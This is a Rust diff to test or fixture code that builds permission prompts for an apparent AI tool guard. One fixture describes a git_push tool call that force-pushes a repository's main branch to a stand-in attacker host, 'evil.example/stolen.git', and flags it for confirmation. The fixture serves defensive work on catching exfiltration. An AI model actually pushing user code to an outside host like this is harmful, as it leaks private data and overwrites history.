@@ -11,20 +11,28 @@ use std::sync::Arc;
 /// Returns a question about pushing a repository to an unknown remote.
 pub(super) fn push(base: Question) -> Question {
     let remote = vec![foreign("main"), Piece::Ours(" to "), foreign("https://evil.example/stolen.git")];
-    let pushed = Consequence { asked_for: Some("origin".into()), object: remote, ..line(Verb::Push, "", "") };
+    let note = "your code leaves this computer; history there is overwritten";
+    let pushed =
+        Consequence { asked_for: Some("origin".into()), object: remote, ..line(Verb::ForcePush, "", note) };
     Question {
         server: "git".into(),
         tool: Some("git_push".into()),
         consequences: vec![
-            Consequence { note: None, ..pushed },
+            pushed,
             Consequence { note: None, allowed: true, ..line(Verb::Record, "/home/ada/src/app", "") },
         ],
-        with: vec![("force".into(), "true".into())],
+        with: vec![],
         also: vec![],
+        arguments: vec![
+            ("repo_path".into(), "/home/ada/src/app".into()),
+            ("remote".into(), "origin".into()),
+            ("branch".into(), "main".into()),
+            ("force".into(), "true".into()),
+        ],
         reason: "Sends data to the internet.".into(),
         rule: "ask-before-connecting".into(),
         preview: None,
-        offers: vec![call_once("push main to https://evil.example/stolen.git and 1 other thing")],
+        offers: vec![call_once("force-push main to https://evil.example/stolen.git")],
         ..base
     }
 }
@@ -78,7 +86,7 @@ pub(super) fn issue(base: Question) -> Question {
     }
 }
 
-/// Returns a question about a host that a server wants to reach on its own.
+/// Returns a question about a host that a server wants to reach without a call.
 pub(super) fn host(base: Question) -> Question {
     use Lifetime::{Always, Hour, Once, QuarterHour, Session};
     Question {
@@ -195,7 +203,7 @@ pub(super) fn unknown(base: Question) -> Question {
     }
 }
 
-/// Returns a question about a tool that its server changed, as the trusted process builds it.
+/// Returns a question about a tool that its server changed, as the daemon builds it.
 pub(super) fn changed_tool(base: Question) -> Question {
     let definition = |text: &str| serde_json::json!({ "name": "search", "description": text }).to_string();
     let before = definition("Searches one note. Returns its title.");
